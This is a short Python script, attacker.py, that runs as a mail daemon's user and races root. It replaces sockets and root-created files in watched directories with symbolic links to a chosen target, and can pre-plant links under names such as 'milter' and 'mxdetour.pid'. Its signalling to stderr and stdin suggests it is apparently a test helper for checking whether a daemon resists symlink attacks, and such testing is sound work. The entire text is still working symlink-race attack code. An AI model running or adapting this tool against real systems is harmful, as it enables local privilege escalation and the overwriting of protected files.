# SPDX-License-Identifier: MIT
"""Runs as the daemon's user and waits for root to act on a path of its own.

usage: attacker.py [--links] TARGET DIRECTORY...

Whatever root makes in one of the directories, and each socket that appears
there whoever made it, gives way to a symbolic link to TARGET at once. With
--links names that root might use are links from the beginning.
"""

import os
import select
import stat
import sys

NAMES = ("socketmap", "policy", "http", "milter", "mxdetour.pid", "lock")


def put_link(target, name):
    """A link in the place of whatever stands there, in one step."""
    new = name + ".new"
    try:
        os.symlink(target, new)
        os.rename(new, name)
    except OSError:
        pass  # a directory, or none of ours: nothing to be had here


def look(target, directory):
    """Replaces what root or a server has made since the last look."""
    try:
        names = os.listdir(directory)
    except OSError:
        return
    for name in names:
        path = os.path.join(directory, name)
        try:
            status = os.lstat(path)
        except OSError:
            continue
        if stat.S_ISSOCK(status.st_mode) or status.st_uid != os.getuid():
            put_link(target, path)


def main(*arguments):
    """Until somebody closes our standard input."""
    links = arguments[0] == "--links"
    target, *directories = arguments[links:]
    for directory in directories:
        for name in NAMES if links else ():
            put_link(target, os.path.join(directory, name))
    sys.stderr.write("ready\n")
    sys.stderr.flush()
    while not select.select([sys.stdin], [], [], 0)[0]:
        for directory in directories:
            look(target, directory)


if __name__ == "__main__":
    main(*sys.argv[1:])
